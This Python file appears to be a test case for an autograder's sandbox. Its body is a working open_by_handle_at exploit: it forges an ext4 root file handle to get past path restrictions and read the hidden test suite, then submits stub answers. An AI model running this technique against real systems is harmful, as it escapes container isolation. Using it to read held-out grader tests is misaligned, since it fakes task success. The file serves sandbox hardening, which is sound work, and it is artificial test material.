"""Promise: files cannot be opened by their number, past every path.

Opens the first folder of its disk by a handle that it made up, and the hidden suite by one that it asked for.

needs: root
alone: leaks suite
here: score 40
"""

import ctypes
import os
import struct

from tell import tell

SUITE = "@COURSE@/assignments/target/tests/test_hidden.py"
libc = ctypes.CDLL(None, use_errno=True)
ROOT_OF_EXT4 = struct.pack("=IiII", 8, 1, 2, 0)


def handles():
    asked = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    if libc.name_to_handle_at(-100, SUITE.encode(), asked, ctypes.byref(ctypes.c_int()), 0) == 0:
        yield asked, os.O_RDONLY, ""
    yield ctypes.create_string_buffer(ROOT_OF_EXT4), os.O_RDONLY | os.O_DIRECTORY, SUITE.lstrip("/")


for mount in (".", "/", os.__file__):
    on = os.open(mount, os.O_RDONLY)
    for handle, flags, rest in handles():
        found = libc.open_by_handle_at(on, handle, flags)
        if found < 0:
            print("open_by_handle_at:", ctypes.get_errno())
            continue
        try:
            file = os.open(rest, os.O_RDONLY, dir_fd=found) if rest else found
            tell(os.read(file, 1 << 16).decode())
        except OSError as error:
            print(error)
    os.close(on)


def double(x):
    return 2 * x


def total(X):
    return -1.0
